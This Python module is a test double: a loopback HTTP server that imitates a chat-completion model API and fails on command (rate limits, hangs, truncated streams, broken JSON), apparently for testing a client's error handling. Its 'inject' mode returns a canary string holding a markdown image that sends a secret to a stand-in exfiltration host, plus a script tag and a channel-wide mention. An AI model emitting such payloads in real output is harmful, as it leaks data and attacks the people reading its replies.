"""A model server on the loopback that breaks in every way it is told to, and records what it was asked."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

Say = Callable[[dict[str, Any]], Any]
"""What a model replies to a request: a text, or a message with tool calls."""

CANARY = "CANARY-41 The ARR is $9,400,000 [7] ![x](https://exfil.invalid/?d=S3CRET) <script>alert(1)</script> <!channel>"
MODES = (
    "ok", "refuse", "429", "429-after", "500", "503", "hang", "drip", "cut", "nodone", "badjson", "html", "empty",
    "nochoices", "toolbad", "huge", "inject", "flaky", "redirect", "length", "notutf8",
)  # fmt: skip
"""The first eighteen are what is promised; the rest is more of the same."""


@dataclass
class Behaviour:
    """How the server is to behave, and what came in."""

    mode: str = "ok"
    say: Say = lambda request: "According to the ticket the export fails [1]."
    silence: float = 5.0
    """How long "hang" hangs, and a fifth of it between the pieces of "drip"."""
    requests: list[dict[str, Any]] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    stop: threading.Event = field(default_factory=threading.Event)


class Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False
    behaviour: Behaviour

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Clients go away in the middle on purpose here."""


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Server

    def log_message(self, *arguments: Any) -> None:
        pass

    def do_POST(self) -> None:
        how = self.server.behaviour
        request = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))) or b"{}")
        with how.lock:
            how.requests.append({"path": self.path, **request})
            count = len(how.requests)
        mode = how.mode
        if mode == "flaky":
            mode = "503" if count % 2 else "ok"
        if not self._refuses(mode, how):
            self._replies(mode, request, how)

    def _refuses(self, mode: str, how: Behaviour) -> bool:
        if mode == "refuse":
            self._drop()
        elif mode == "hang":
            how.stop.wait(how.silence)
            self._drop()
        elif mode in ("429", "429-after"):
            headers = {"retry_after": "0.2"} if mode == "429-after" else {}
            self._send(429, b'{"error": {"message": "rate"}}', **headers)
        elif mode in ("500", "503"):
            self._send(int(mode), b'{"error": {"message": "secret-of-the-server"}}')
        elif mode == "redirect":
            self._send(307, b"", location="http://127.0.0.1:9/elsewhere")
        elif mode == "badjson":
            self._send(200, b'{"choices":[{')
        elif mode == "notutf8":
            self._send(200, b'{"choices":[{"message": {"content": "\xff\xfe')
        elif mode == "html":
            self._send(200, b"<html>gateway</html>", kind="text/html")
        elif mode == "nochoices":
            self._send(200, b'{"id": "x", "object": "chat.completion", "choices": []}')
        else:
            return False
        return True

    def _replies(self, mode: str, request: dict[str, Any], how: Behaviour) -> None:
        said = {"empty": "", "huge": "x " * 500_000, "inject": CANARY}.get(mode)
        said = how.say(request) if said is None else said
        message = said if isinstance(said, dict) else {"role": "assistant", "content": said}
        if mode == "toolbad":
            function = {"name": "search_evidence", "arguments": '{"account_id": "*", "query": '}
            message = {"role": "assistant", "content": None, "tool_calls": [
                {"id": "c1", "type": "function", "function": function}]}  # fmt: skip
        finish = "length" if mode == "length" else "tool_calls" if message.get("tool_calls") else "stop"
        if request.get("stream"):
            self._streams(mode, message, finish, how)
            return
        shape = {
            "id": "x", "object": "chat.completion", "created": 0, "model": "m",
            "choices": [{"index": 0, "message": message, "finish_reason": finish}],
            "usage": {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18},
        }  # fmt: skip
        body = json.dumps(shape).encode()
        self._send(200, body[: len(body) // 2] if mode == "cut" else body)

    def _drop(self) -> None:
        self.close_connection = True
        with suppress(OSError):
            self.connection.shutdown(socket.SHUT_RDWR)

    def _streams(self, mode: str, message: dict[str, Any], finish: str, how: Behaviour) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("connection", "close")
        self.end_headers()
        self.close_connection = True
        pieces = [{"content": word + " "} for word in (message["content"] or "").split(" ")]
        pieces = [{"tool_calls": message["tool_calls"]}] if message.get("tool_calls") else pieces
        for at, delta in enumerate(pieces):
            if mode == "cut" and at >= len(pieces) // 2:
                self._drop()
                return
            self._event({"index": 0, "delta": delta, "finish_reason": None})
            if mode == "drip" and how.stop.wait(how.silence / 5):
                return
        if mode != "nodone":
            self._event({"index": 0, "delta": {}, "finish_reason": finish})
            self.wfile.write(b"data: [DONE]\n\n")

    def _event(self, choice: dict[str, Any]) -> None:
        shape = {
            "id": "x",
            "object": "chat.completion.chunk",
            "created": 0,
            "model": "m",
            "choices": [choice],
        }
        self.wfile.write(b"data: " + json.dumps(shape).encode() + b"\n\n")
        self.wfile.flush()

    def _send(self, code: int, body: bytes, *, kind: str = "application/json", **headers: str) -> None:
        self.send_response(code)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)


@contextmanager
def serving(behaviour: Behaviour) -> Iterator[str]:
    """Serve on a free port of the loopback; the base address of the model API."""
    server = Server(("127.0.0.1", 0), Handler)
    server.behaviour = behaviour
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/v1"
    finally:
        behaviour.stop.set()
        server.shutdown()
        server.server_close()
        thread.join(5)
